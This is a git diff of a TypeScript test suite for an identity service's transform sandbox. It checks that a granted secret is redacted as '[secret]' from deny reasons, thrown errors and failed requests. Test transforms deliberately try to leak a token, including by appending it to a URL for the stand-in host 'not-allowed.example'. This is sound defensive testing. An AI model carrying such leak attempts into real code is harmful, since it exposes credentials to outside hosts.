@@ -1,20 +1,22 @@
 /**
  * What configuration grants a transform, end to end: http.getJson to an allow-listed API with a
  * named secret and a response cache, log lines in the audit trail, account attribute updates, and
- * the risk hook (transform scores, a risk endpoint, thresholds allow / step-up / deny).
+ * the risk hook (transform scores, a risk endpoint, thresholds allow / step-up / deny). A granted
+ * secret never leaves the sandbox: not in a deny reason, a thrown error or a failed request's URL.
  */
 import { createServer, type Server } from 'node:http';
 import { decodeJwt } from 'jose';
 import type { TestHerald } from '../support/herald.js';
 import { baseConfig, startHerald } from '../support/herald.js';
 import { freePort } from '../support/ports.js';
-import { clientPeer, redeem, type ClientPeer } from '../peers/client.js';
+import { clientPeer, oidc, redeem, type ClientPeer } from '../peers/client.js';
 import { UsersRepository } from '../../src/users/users.repository.js';
 import { devSignIn, transformsDir } from './transforms-support.js';
 
 const SECRET = 'web-app-secret-0123456789abcdef-0123456789';
 const REDIRECT = 'http://127.0.0.1:9/app/callback';
 const CRM_TOKEN = 'crm-token-s3cr3t-0123456789';
+const OPS_SECRET = 'ops-secret-0123456789abcdef-0123456789abcd';
 
 const head = `import { defineTransform, strings } from '@herald/transform';\n`;
 const SOURCES = {
@@ -39,6 +41,31 @@ export default defineTransform({
   'other-secret': `${head}export default defineTransform({
   run(_input, ctx) {
     return { claims: { tier: ctx.secrets.get('crm_token') } };
+  },
+});
+`,
+  'deny-secret': `${head}export default defineTransform({
+  run(_input, ctx) {
+    return { deny: 'CRM refused ' + ctx.secrets.get('crm_token') };
+  },
+});
+`,
+  'throw-secret': `${head}export default defineTransform({
+  run({ upstream }, ctx) {
+    // pad: puts the secret across the sandbox's 1000-character cut of error messages
+    throw new Error('x'.repeat((upstream.attributes.pad as number) ?? 0) + 'CRM refused ' + ctx.secrets.get('crm_token'));
+  },
+});
+`,
+  'url-secret': `${head}export default defineTransform({
+  async run(_input, ctx) {
+    try {
+      await ctx.http.getJson('https://not-allowed.example/lookup?key=' + ctx.secrets.get('crm_token'));
+    } catch (error) {
+      ctx.log('crm lookup failed', { error: String(error) });
+      throw error;
+    }
+    return { claims: {} };
   },
 });
 `,
@@ -97,8 +124,14 @@ describe('transform capabilities and the risk hook', () => {
     herald = await startHerald((issuer) => ({
       ...baseConfig(issuer),
       scopes: { trades: { claims: ['tier', 'desks', 'desk', 'previous_desk', 'checked'] } },
-      clients: [{ id: 'web', secret: SECRET, redirectUris: [REDIRECT], apis: ['trading'], firstParty: true }],
+      clients: [
+        { id: 'web', secret: SECRET, redirectUris: [REDIRECT], apis: ['trading'], firstParty: true },
+        { id: 'ops', secret: OPS_SECRET, grantTypes: ['client_credentials'], apis: ['admin'] },
+      ],
       connectors: [
+        dev('deny-secret', ['deny-secret'], { alice: user('alice') }),
+        dev('throw-secret', ['throw-secret'], { alice: user('alice'), padded: user('padded', { pad: 983 }) }),
+        dev('url-secret', ['url-secret'], { alice: user('alice') }),
         dev('crm', ['crm'], { alice: user('alice', { crm: crmUrl }) }),
         dev('leak', ['leak-secret'], { alice: user('alice') }),
         dev('other', ['other-secret'], { alice: user('alice') }),
@@ -115,7 +148,13 @@ describe('transform capabilities and the risk hook', () => {
       transforms: {
         directory: transformsDir(SOURCES),
         secrets: { crm_token: CRM_TOKEN },
-        grants: { crm: { secrets: ['crm_token'], allowedOrigins: [crmUrl] }, 'leak-secret': { secrets: ['crm_token'] } },
+        grants: {
+          crm: { secrets: ['crm_token'], allowedOrigins: [crmUrl] },
+          'leak-secret': { secrets: ['crm_token'] },
+          'deny-secret': { secrets: ['crm_token'] },
+          'throw-secret': { secrets: ['crm_token'] },
+          'url-secret': { secrets: ['crm_token'] },
+        },
         accountUpdates: { allow: ['homeDesk'] },
         risk: { endpoint: `http://127.0.0.1:${riskPort}/score`, stepUpAt: 50, denyAt: 90, authorization: 'Bearer risk-api-key-0123456789' },
       },
@@ -156,6 +195,55 @@ describe('transform capabilities and the risk hook', () => {
     expect(failures.find((e) => e.connectorId === 'leak')?.data).toMatchObject({ kind: 'invalid_output', message: 'result contains the value of a secret' });
     expect(failures.find((e) => e.connectorId === 'other')?.data).toMatchObject({ kind: 'error', message: 'secret "crm_token" is not granted to this transform' });
     expect(JSON.stringify(failures)).not.toContain(CRM_TOKEN);
+  });
+
+  describe('a secret in a deny reason, a thrown error or a failed request never leaves the sandbox', () => {
+    const eventsOf = async (connectorId: string) => (await herald.audit.find()).filter((e) => e.connectorId === connectorId);
+    const explain = async (connector: string, identity: Record<string, unknown> = { subject: 'alice' }) => {
+      const ops = await clientPeer(herald.issuer, 'ops', OPS_SECRET);
+      const token = (await oidc.clientCredentialsGrant(ops.config, { scope: 'admin:read' })).access_token;
+      const response = await fetch(`${herald.issuer}/admin/transforms/explain`, {
+        method: 'POST',
+        headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json' },
+        body: JSON.stringify({ connector, client: 'web', scopes: 'openid trades', identity }),
+      });
+      expect(response.status).toBe(200);
+      return (await response.json()) as any;
+    };
+
+    test('deny reason: login.denied and explain show [secret]', async () => {
+      expect((await devSignIn(app, 'deny-secret', 'alice')).page.status).toBe(403);
+      const events = await eventsOf('deny-secret');
+      expect(events.find((e) => e.type === 'login.denied')?.data).toEqual({ transform: 'deny-secret', message: 'CRM refused [secret]' });
+      const body = await explain('deny-secret');
+      expect(body.transforms.detail).toEqual({ transform: 'deny-secret', reason: 'CRM refused [secret]' });
+      expect(JSON.stringify([events, body])).not.toContain(CRM_TOKEN);
+    });
+
+    test('thrown error: transform.failed and explain show [secret], also when the message is cut inside it', async () => {
+      expect((await devSignIn(app, 'throw-secret', 'alice')).page.status).toBe(403);
+      expect((await devSignIn(app, 'throw-secret', 'padded')).page.status).toBe(403);
+      const failed = (await eventsOf('throw-secret')).filter((e) => e.type === 'transform.failed');
+      expect(failed.map((e) => e.data?.message)).toEqual(['CRM refused [secret]', expect.stringMatching(/^x+…$/)]); // the audit trail keeps 512 characters
+      const body = await explain('throw-secret');
+      expect(body.transforms.detail).toMatchObject({ reason: 'error', message: 'CRM refused [secret]' });
+      expect(body.problems).toContain('transform throw-secret failed: CRM refused [secret]');
+      // The sandbox cuts messages at 1000 characters: here after "crm-t"; that beginning goes too.
+      const padded = await explain('throw-secret', { subject: 'padded', attributes: { pad: 983 } });
+      expect(padded.transforms.detail.message).toBe(`${'x'.repeat(983)}CRM refused …`);
+      expect(JSON.stringify([failed, body, padded])).not.toMatch(/crm-t/);
+    });
+
+    test('http.getJson URL: the error, the log line of the caught error and explain show [secret]', async () => {
+      expect((await devSignIn(app, 'url-secret', 'alice')).page.status).toBe(403);
+      const events = await eventsOf('url-secret');
+      const expected = 'http.getJson(https://not-allowed.example/lookup?key=[secret]): origin https://not-allowed.example is not allow-listed for this transform';
+      expect(events.find((e) => e.type === 'transform.failed')?.data).toMatchObject({ kind: 'error', message: expected });
+      expect(events.find((e) => e.type === 'transform.logged')?.data).toEqual({ transform: 'url-secret', message: 'crm lookup failed', data: { error: `Error: ${expected}` } });
+      const body = await explain('url-secret');
+      expect(body.transforms).toMatchObject({ detail: { message: expected }, logs: [{ transform: 'url-secret', data: { error: `Error: ${expected}` } }] });
+      expect(JSON.stringify([events, body])).not.toContain(CRM_TOKEN);
+    });
   });
 
   test('account updates are stored on the account, audited, and visible to the next run', async () => {
